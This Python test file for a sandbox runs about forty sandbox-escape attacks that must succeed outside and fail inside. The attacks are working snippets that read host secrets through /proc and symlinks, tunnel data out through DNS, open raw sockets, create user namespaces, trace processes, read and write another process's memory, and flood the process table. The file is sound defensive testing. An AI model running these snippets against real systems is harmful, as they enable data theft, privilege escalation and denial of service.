# SPDX-License-Identifier: Apache-2.0
"""Attacks, each run twice: outside of a sandbox, where it has to succeed or it
proves nothing (skipped, and so counted), and inside, where it must not.

An attack is a Python program that prints PWNED when it got what it wanted.
What it aims at is in TARGET, a JSON object in its environment.
"""

import json
import os
import pathlib
import socket
import subprocess
import threading
import time

import pytest

from shell import allow, policy

PRELUDE = """
import ctypes, errno, json, os, socket, struct, subprocess, sys, time
T = json.loads(os.environ["TARGET"])
libc = ctypes.CDLL(None, use_errno=True)
def pwned(why=""): print("PWNED", why, flush=True)
"""

# name, what it does
ATTACKS = {
    "read a file of the host": """
pwned(open(T["secret"]).read())
""",
    "read it through /proc": """
for pid in ["self", "1"] + [p for p in os.listdir("/proc") if p.isdigit()]:
    for way in ("root", "cwd"):
        try:
            pwned(open(f"/proc/{pid}/{way}{T['secret']}").read()); sys.exit()
        except OSError: pass
""",
    "read it through a symlink": """
os.chdir(os.environ.get("WORK", "/sandbox"))
try: os.unlink("link")
except OSError: pass
os.symlink(T["secret"], "link"); pwned(open("link").read())
""",
    "write a file of the host": """
open(T["dir"] + "/written", "w").write("x"); pwned()
""",
    "read the user's home": """
pwned(os.listdir(T["home"])) if os.listdir(T["home"]) is not None else 0
""",
    "see processes of the host": """
for p in os.listdir("/proc"):
    try:
        if T["marker"].encode() in open(f"/proc/{p}/cmdline", "rb").read():
            pwned(p)
    except OSError: pass
""",
    "signal a process of the host": """
os.kill(T["pid"], 0)
name = open(f"/proc/{T['pid']}/cmdline", "rb").read()
if T["marker"].encode() in name: pwned()
""",
    "see the gateway's sockets": """
s = socket.socket(socket.AF_UNIX); s.connect(T["gateway"]); pwned()
""",
    "connect to an abstract socket of the host": """
s = socket.socket(socket.AF_UNIX); s.connect("\\0" + T["abstract"]); pwned()
""",
    "reach the host's loopback": """
s = socket.create_connection(("127.0.0.1", 8088), 3)
s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
if b"loopback" in s.recv(4096): pwned()
""",
    "reach the host's loopback by IPv6": """
s = socket.create_connection(("::1", T["v6_port"]), 3)
if s.recv(10) == b"v6": pwned()
""",
    "reach a server by its address": """
s = socket.create_connection((T["web"], 80), 3)
s.sendall(b"GET /tiny HTTP/1.0\\r\\n\\r\\n")
if b"ok" in s.recv(4096): pwned()
""",
    "reach it by a v4-mapped address": """
s = socket.create_connection(("::ffff:" + T["web"], 80), 3)
s.sendall(b"GET /tiny HTTP/1.0\\r\\n\\r\\n")
if b"200 OK" in s.recv(4096): pwned()
""",
    "reach it without blocking": """
import select
s = socket.socket(); s.setblocking(False)
try: s.connect((T["web"], 80))
except BlockingIOError: pass
select.select([], [s], [], 3)
s.sendall(b"GET /tiny HTTP/1.0\\r\\n\\r\\n"); select.select([s], [], [], 3)
if b"200 OK" in s.recv(4096): pwned()
""",
    "reach it with data in the SYN": """
s = socket.socket()
s.sendto(b"GET /tiny HTTP/1.0\\r\\n\\r\\n", 0x20000000, (T["web"], 80))
s.settimeout(3)
if b"200 OK" in s.recv(4096): pwned()
""",
    "reach it from a bound source": """
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.settimeout(3)
s.connect((T["web"], 80)); s.sendall(b"GET /tiny HTTP/1.0\\r\\n\\r\\n")
if b"200 OK" in s.recv(4096): pwned()
""",
    "swap the socket while connect is looked at": """
import threading
unix = socket.socketpair()[0]
fd = os.dup(unix.fileno()); stop = False; got = 0
def flip():
    while not stop:
        t = socket.socket(); os.dup2(t.fileno(), fd); os.dup2(unix.fileno(), fd)
        t.close()
threading.Thread(target=flip, daemon=True).start()
a = struct.pack("=HH4s8x", 2, socket.htons(80), socket.inet_aton(T["web"]))
end = time.time() + 2
while time.time() < end and not got:
    if libc.connect(fd, a, 16) != 0: continue
    try:
        s = socket.socket(fileno=os.dup(fd)); s.settimeout(1)
        s.sendall(b"GET /tiny HTTP/1.0\\r\\n\\r\\n")
        got += b"200 OK" in s.recv(4096); s.close()
    except OSError: pass
stop = True
if got: pwned(got)
""",
    "send a datagram out": """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(b"ping", (T["web"], T["udp_port"]))
if s.recv(10) == b"ping": pwned()
""",
    "tunnel through DNS": """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
q = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0"
for l in (T["label"], "example", "com"): q += bytes([len(l)]) + l.encode()
s.sendto(q + b"\\0\\0\\x10\\0\\1", ("127.0.0.53", 53))
try: s.recv(512)
except OSError: pass
time.sleep(0.3); print("LOOK")
""",
    "ping": """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.settimeout(2); s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", (T["web"], 0))
s.recv(100); pwned()
""",
    "open a raw socket": """
socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP); pwned()
""",
    "open a packet socket": """
socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0); pwned()
""",
    "mark a socket": """
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, 36, 0x5e11); pwned()
""",
    "open a socket of an odd family": """
# alg, vsock, key, tipc, xdp, bluetooth, packet
for family in (38, 40, 15, 30, 44, 31, 17):
    for kind in (1, 2, 3, 5):
        try: socket.socket(family, kind, 0); pwned(family)
        except OSError: pass
""",
    "make a user namespace": """
if libc.unshare(0x10000000) == 0: pwned()
""",
    "make a user namespace by clone": """
pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)
if pid == 0: os._exit(0)
if pid > 0: os.waitpid(pid, 0); pwned()
""",
    "mount": """
r = subprocess.run(["unshare", "-Urm", "mount", "-t", "tmpfs", "x", "/mnt"],
                   stderr=subprocess.DEVNULL)
if r.returncode == 0: pwned()
""",
    "trace a process": """
pid = os.fork()
if pid == 0: time.sleep(5); os._exit(0)
if libc.ptrace(16, pid, 0, 0) == 0: pwned()
os.kill(pid, 9)
""",
    "read another process's memory": """
buf = ctypes.create_string_buffer(b"secret", 16); out = ctypes.create_string_buffer(16)
pid = os.fork()
if pid == 0: time.sleep(5); os._exit(0)
class iov(ctypes.Structure): _fields_ = [("b", ctypes.c_void_p), ("n", ctypes.c_size_t)]
l = iov(ctypes.addressof(out), 16); r = iov(ctypes.addressof(buf), 16)
if libc.process_vm_readv(pid, ctypes.byref(l), 1, ctypes.byref(r), 1, 0) > 0: pwned()
os.kill(pid, 9)
""",
    "write another process's memory": """
pid = os.fork()
if pid == 0: time.sleep(5); os._exit(0)
try:
    os.open(f"/proc/{pid}/mem", os.O_RDWR); pwned()
finally: os.kill(pid, 9)
""",
    "take a descriptor from another process": """
pid = os.fork()
if pid == 0: time.sleep(5); os._exit(0)
try:
    fd = os.pidfd_open(pid)
    if libc.syscall(438, fd, 1, 0) >= 0: pwned()
finally: os.kill(pid, 9)
""",
    "set up io_uring": """
params = ctypes.create_string_buffer(120)
if libc.syscall(425, 4, params) >= 0: pwned()
""",
    "execute a file that has no path": """
fd = os.memfd_create("x", 0); os.write(fd, open("/bin/echo", "rb").read())
pid = os.fork()
if pid == 0:
    argv = (ctypes.c_char_p * 3)(b"echo", b"PWNED", None)
    envp = (ctypes.c_char_p * 1)(None)
    libc.syscall(322, fd, b"", argv, envp, 0x1000); os._exit(1)
os.waitpid(pid, 0)
""",
    "use keys of the kernel": """
if libc.syscall(248, b"user", b"x", b"y", 1, -3) >= 0: pwned()
""",
    "load a BPF program": """
attr = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1).ljust(120, b"\\0"), 120)
if libc.syscall(321, 0, attr, 120) >= 0: pwned()
""",
    "watch performance counters": """
attr = ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0).ljust(112, b"\\0"), 112)
if libc.syscall(298, attr, 0, -1, -1, 0) >= 0: pwned()
""",
    "handle page faults": """
if libc.syscall(323, 0) >= 0 or libc.syscall(323, 1) >= 0: pwned()
""",
    "become root": """
os.setuid(0)
if os.getuid() == 0 and os.path.exists(T["secret"]): pwned()
""",
    "change the kernel's settings": """
open("/proc/sys/kernel/core_pattern", "r+").close(); pwned()
""",
    "read the kernel's log": """
buf = ctypes.create_string_buffer(4096)
if libc.klogctl(3, buf, 4096) >= 0: pwned()
""",
    "see devices of the host": """
if len(os.listdir("/sys/class")) > 3: pwned()
""",
    "make a device": """
os.mknod(os.environ.get("WORK", "/tmp") + "/dev", 0o600 | 0o020000, os.makedev(1, 3)); pwned()
""",
    # Threads count like processes, and are made sooner.
    "fill the process table": """
import _thread
_thread.stack_size(65536)
n = 0
for _ in range(6000):
    try: _thread.start_new_thread(time.sleep, (30,))
    except RuntimeError: break
    n += 1
if n >= 6000: pwned(n)
if n < 100: print("stopped at", n)
os._exit(0)
""",
}


class Target:
    """What the attacks aim at, outside."""

    def __init__(self, directory, gateway):
        self.dir = directory
        (directory / "secret").write_text("the golden secret\n")
        self.marker = f"openshell-marker-{os.getpid()}"
        self.sleeper = subprocess.Popen(
            ["python3", "-c", "import time; time.sleep(1000)", self.marker])
        self.abstract = f"openshell-{os.getpid()}"
        self.listen(socket.AF_UNIX, "\0" + self.abstract, b"")
        self.v6_port = self.listen(socket.AF_INET6, ("::1", 0), b"v6")[1]
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("140.82.112.5", 0))
        self.udp_port = udp.getsockname()[1]
        threading.Thread(target=self.echo, args=(udp,), daemon=True).start()
        self.values = {
            "secret": str(directory / "secret"), "dir": str(directory),
            "home": os.environ["HOME"], "marker": self.marker,
            "pid": self.sleeper.pid, "gateway": str(gateway.socket),
            "abstract": self.abstract, "web": "140.82.112.5",
            "v6_port": self.v6_port, "udp_port": self.udp_port,
            "label": "set per run"}

    @staticmethod
    def listen(family, address, greeting):
        server = socket.socket(family)
        server.bind(address)
        server.listen(16)

        def serve():
            while True:
                s = server.accept()[0]
                try:
                    s.sendall(greeting)
                except OSError:
                    pass
                s.close()
        threading.Thread(target=serve, daemon=True).start()
        return server.getsockname()

    @staticmethod
    def echo(udp):
        while True:
            data, who = udp.recvfrom(100)
            udp.sendto(data, who)


@pytest.fixture(scope="module")
def target(tmp_path_factory, gateway):
    gateway.ok("sandbox", "list")
    t = Target(tmp_path_factory.mktemp("target"), gateway)
    yield t
    t.sleeper.kill()
    t.sleeper.wait()


@pytest.fixture(scope="module")
def cage(gateway):
    """Denies every connection; 512 processes."""
    from fixtures import make
    s = make(gateway, policy())
    yield s
    s.delete()


def dns_log():
    return (pathlib.Path(os.environ["WORLD"]) / "dns.log").read_text()


def succeeded(output, label):
    return "PWNED" in output or ("LOOK" in output and label in dns_log())


def run_outside(target, program, tmp_path, label):
    env = {**os.environ, "WORK": str(tmp_path),
           "TARGET": json.dumps({**target.values, "label": label})}
    r = subprocess.run(["/usr/bin/python3", "-c", PRELUDE + program], env=env,
                       capture_output=True, text=True, timeout=60,
                       start_new_session=True)
    return succeeded(r.stdout, label), r.stdout + r.stderr


@pytest.mark.parametrize("name", ATTACKS)
def test_attack(name, target, cage, tmp_path):
    program = ATTACKS[name]
    worked, said = run_outside(target, program, tmp_path,
                               f"out{time.monotonic_ns()}")
    if not worked:
        pytest.skip(f"doesn't work outside either: {said[-200:]!r}")
    label = f"in{time.monotonic_ns()}"
    r = cage.run("python3", "-c", PRELUDE + program, timeout=90, options=(
        "--env", "TARGET=" + json.dumps({**target.values, "label": label})))
    assert not succeeded(r.out, label), r
    # The cage is whole, and still works.
    assert cage.sh("echo fine").out == "fine\n"


def test_another_sandbox_is_out_of_sight(sandbox_with):
    a, b = sandbox_with(policy()), sandbox_with(policy())
    a.sh("echo secret >/sandbox/s; (sleep 98765 &)")
    look = "cat /sandbox/s; cat /proc/[0-9]*/cmdline | tr '\\0' ' '"
    own = a.sh(look).out
    assert "secret" in own and "sleep 98765" in own, own
    r = b.sh(look)
    assert "secret" not in r.out and "98765" not in r.out, r


def test_one_session_does_not_read_another_s_memory(sandbox_with):
    s = sandbox_with(policy())
    s.sh("(setsid sleep 54321 &)", options=("--env", "MINE=session-secret"))
    r = s.sh("cat /proc/[0-9]*/environ | tr '\\0' '\\n'")
    assert "session-secret" not in r.out, r


def test_the_first_process_is_out_of_reach(sandbox_with):
    s = sandbox_with(policy())
    r = s.sh("kill -9 1; cat /proc/1/maps /proc/1/environ; ls /proc/1/fd; "
             "readlink /proc/1/exe; echo end")
    assert r.out == "end\n", r


def test_a_policy_can_not_be_changed_from_inside(sandbox_with):
    s = sandbox_with(policy(allow("origin.example.com", 443)))
    r = s.sh("find / -name '*.sock' 2>/dev/null; find / -name '*.db' "
             "-newer /etc/hostname 2>/dev/null; echo end")
    assert r.out == "end\n", r
